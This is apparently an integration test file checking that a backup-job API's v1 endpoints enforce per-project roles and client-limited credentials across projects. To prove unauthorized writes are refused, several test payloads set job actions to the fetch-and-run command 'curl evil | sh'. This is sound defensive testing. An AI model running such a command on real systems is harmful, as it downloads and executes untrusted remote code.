import assert from 'node:assert/strict';
import type { Api, Response } from '../helpers/http';
import { adminToken, createProject, createTenant, JWT_ENV, login, tokenApi, tokenFor, v3, type Tenant } from '../helpers/identity';
import { useServer } from '../helpers/server';

const EXEC = (command: string) => ({ freezer_action: { action: 'exec', command } });

/**
 * v1 is user-scoped: a token of project A reaches the user's documents of every project. The
 * role and client checks of v2 must hold for the project each document belongs to (auth=jwt: the
 * roles on other projects come from the identity store at the time of the request).
 */
describe('trust 6: v1 applies the role and client checks of the project each document belongs to (auth=jwt)', function () {
  this.timeout(60000);
  const server = useServer({ env: JWT_ENV });
  let admin: string;
  let projA: string;
  let projB: string;
  let dana: Tenant;
  /** dana's documents in project B, created through v2 while she was a member there. */
  const inB: Record<'job' | 'agentJob' | 'action' | 'session' | 'backup', string> = { job: '', agentJob: '', action: '', session: '', backup: '' };

  const expectStatus = async (res: Promise<Response>, status: number, what: string): Promise<Response> => {
    const r = await res;
    assert.equal(r.status, status, `${what}: ${r.text}`);
    return r;
  };
  const setRole = async (project: string, role: string | null) => {
    for (const r of ['member', 'reader']) await v3(server().url, admin, 'DELETE', `/projects/${project}/users/${dana.userId}/roles/${r}`);
    if (role) assert.equal((await v3(server().url, admin, 'PUT', `/projects/${project}/users/${dana.userId}/roles/${role}`)).status, 204);
  };
  /** A fresh project-A token (role changes revoke the older ones) and its /v1 client. */
  const v1A = async (): Promise<Api> => tokenApi(server().url, null, await tokenFor(server().url, 'dana', dana.password, { id: projA }));

  before(async () => {
    const url = server().url;
    admin = await adminToken(url);
    projA = await createProject(url, admin, 'v1-a');
    projB = await createProject(url, admin, 'v1-b');
    dana = await createTenant(url, admin, { projectId: projA, user: 'dana', role: 'member' });
    await setRole(projB, 'member');
    const b = tokenApi(url, projB, await tokenFor(url, 'dana', dana.password, { id: projB }));
    inB.job = (await expectStatus(b.post('/jobs', { client_id: 'hostb', job_actions: [EXEC('true')] }), 201, 'B job')).json.job_id;
    inB.agentJob = (await expectStatus(b.post('/jobs', { client_id: 'hostx', job_actions: [EXEC('true')] }), 201, 'B hostx job')).json.job_id;
    inB.action = (await expectStatus(b.post('/actions', EXEC('true')), 201, 'B action')).json.action_id;
    inB.session = (await expectStatus(b.post('/sessions', { schedule: {} }), 201, 'B session')).json.session_id;
    inB.backup = (await expectStatus(b.post('/backups', { container: 'c', hostname: 'hostb', backup_name: 'n' }), 201, 'B backup')).json.backup_id;
    await expectStatus(b.post('/clients', { client_id: 'hostb', hostname: 'hostb' }), 201, 'B client');
  });

  it('trust 6: demoted to reader in B, a project-A token reads B documents through /v1 but changes none of them (403)', async () => {
    await setRole(projB, 'reader');
    const v1 = await v1A();
    assert.equal((await v1.get(`/jobs/${inB.job}`)).status, 200, 'a reader still reads');
    const writes: Array<[string, Promise<Response>]> = [
      ['PATCH job (exec command)', v1.patch(`/jobs/${inB.job}`, { job_actions: [EXEC('curl evil | sh')] })],
      ['PATCH job (description)', v1.patch(`/jobs/${inB.job}`, { description: 'x' })],
      ['event start', v1.post(`/jobs/${inB.job}/event`, { start: null })],
      ['replace job', v1.post(`/jobs/${inB.job}`, { client_id: 'hostb', job_actions: [EXEC('curl evil | sh')] })],
      ['DELETE job', v1.delete(`/jobs/${inB.job}`)],
      ['PATCH action', v1.patch(`/actions/${inB.action}`, EXEC('evil'))],
      ['replace action', v1.post(`/actions/${inB.action}`, EXEC('evil'))],
      ['DELETE action', v1.delete(`/actions/${inB.action}`)],
      ['PATCH session', v1.patch(`/sessions/${inB.session}`, { description: 'x' })],
      ['replace session', v1.post(`/sessions/${inB.session}`, { schedule: {}, session_tag: 0 })],
      ['DELETE session', v1.delete(`/sessions/${inB.session}`)],
      ['DELETE backup', v1.delete(`/backups/${inB.backup}`)],
      ['DELETE client', v1.delete('/clients/hostb')],
    ];
    for (const [what, res] of writes) await expectStatus(res, 403, what);
    // A v1 session of her own cannot pull the B job in, nor start it.
    const sid = (await expectStatus(v1.post('/sessions', { schedule: {}, hold_off: 0 }), 201, 'own v1 session')).json.session_id;
    await expectStatus(v1.put(`/sessions/${sid}/jobs/${inB.job}`), 403, 'add B job to a v1 session');
    assert.equal((await v1.get(`/sessions/${sid}`)).json.jobs, undefined, 'the refused add left the session alone');
    // Nothing changed in B.
    const job = (await v1.get(`/jobs/${inB.job}`)).json;
    assert.deepEqual([job.job_actions[0].freezer_action.command, job.description, job.job_schedule.event], ['true', '', undefined]);
    assert.equal((await v1.get(`/actions/${inB.action}`)).json.freezer_action.command, 'true');
    assert.equal((await v1.get(`/sessions/${inB.session}`)).status, 200);
    assert.equal((await v1.get(`/backups/${inB.backup}`)).status, 200);
  });

  it('trust 6: with no role left in B, B documents are invisible through /v1 (404, not in lists), own and v1 documents are not', async () => {
    await setRole(projB, null);
    const v1 = await v1A();
    const own = (await expectStatus(v1.post('/jobs', { client_id: 'hosta', job_actions: [EXEC('true')] }), 201, 'own v1 job')).json.job_id;
    for (const [c, id] of [['jobs', inB.job], ['actions', inB.action], ['sessions', inB.session], ['backups', inB.backup], ['clients', 'hostb']]) {
      await expectStatus(v1.get(`/${c}/${id}`), 404, `GET ${c}`);
      const list = (await v1.get(`/${c}?limit=1000`)).json[c] as Array<Record<string, unknown>>;
      assert.ok(list.every((d) => d.project_id !== projB), `no ${c} of B in the v1 list`);
    }
    await expectStatus(v1.get('/jobs', { match: [{ client_id: 'hostb' }] }), 200, 'search');
    assert.deepEqual((await v1.get('/jobs', { match: [{ client_id: 'hostb' }] })).json.jobs, []);
    await expectStatus(v1.patch(`/jobs/${inB.job}`, { description: 'x' }), 404, 'PATCH invisible job');
    await expectStatus(v1.post(`/jobs/${inB.job}/event`, { start: null }), 404, 'event on invisible job');
    await expectStatus(v1.post(`/jobs/${inB.job}`, { client_id: 'hostb', job_actions: [EXEC('evil')] }), 403, 'replace invisible job');
    await expectStatus(v1.patch(`/jobs/${own}`, { description: 'mine' }), 200, 'own v1 job');
    assert.ok(((await v1.get('/jobs?limit=1000')).json.jobs as Array<{ job_id: string }>).some((j) => j.job_id === own));
  });

  it('control: member in B again: /v1 writes there work (roles are read at request time, not banned)', async () => {
    await setRole(projB, 'member');
    const v1 = await v1A();
    await expectStatus(v1.patch(`/jobs/${inB.job}`, { description: 'back as member' }), 200, 'PATCH as member');
    assert.equal((await v1.get(`/jobs/${inB.job}`)).json.description, 'back as member');
  });

  it('trust 6: a client-limited (agent) credential of project A, and any application credential, reach only project A through /v1', async () => {
    await setRole(projB, 'member');
    const url = server().url;
    const tokenA = await tokenFor(url, 'dana', dana.password, { id: projA });
    const agentJobA = (await expectStatus(tokenApi(url, projA, tokenA).post('/jobs', { client_id: 'hostx', job_actions: [EXEC('true')] }), 201, 'A hostx job')).json.job_id;
    const credential = async (body: Record<string, unknown>) => {
      const res = await v3(url, tokenA, 'POST', `/users/${dana.userId}/application_credentials`, { application_credential: body });
      assert.equal(res.status, 201, res.text);
      const { id, secret } = res.json.application_credential as { id: string; secret: string };
      const logged = await login(url, { identity: { methods: ['application_credential'], application_credential: { id, secret } } });
      assert.equal(logged.status, 201, logged.text);
      return tokenApi(url, null, logged.headers['x-subject-token'] as string);
    };
    const agent = await credential({ name: 'agent-hostx', client_id: 'hostx' });
    await expectStatus(agent.get(`/jobs/${inB.agentJob}`), 404, 'agent GET of the B hostx job');
    await expectStatus(agent.patch(`/jobs/${inB.agentJob}`, { job_actions: [EXEC('evil')] }), 404, 'agent PATCH of the B hostx job');
    await expectStatus(agent.post(`/jobs/${inB.agentJob}/event`, { start: null }), 404, 'agent event on the B hostx job');
    const polled = (await agent.get('/jobs?limit=100', { match: [{ client_id: 'hostx' }] })).json.jobs as Array<{ job_id: string }>;
    assert.deepEqual(polled.map((j) => j.job_id), [agentJobA], 'the agent polls its project-A job only');
    await expectStatus(agent.patch(`/jobs/${agentJobA}`, { job_schedule: { status: 'scheduled' } }), 200, 'agent PATCH of its own job');
    const plain = await credential({ name: 'scripts' });
    await expectStatus(plain.get(`/jobs/${inB.job}`), 404, 'application credential of A, GET of a B job');
    await expectStatus(plain.patch(`/jobs/${inB.job}`, { description: 'x' }), 404, 'application credential of A, PATCH of a B job');
    await expectStatus(plain.get(`/jobs/${agentJobA}`), 200, 'application credential of A, its own project');
  });
});
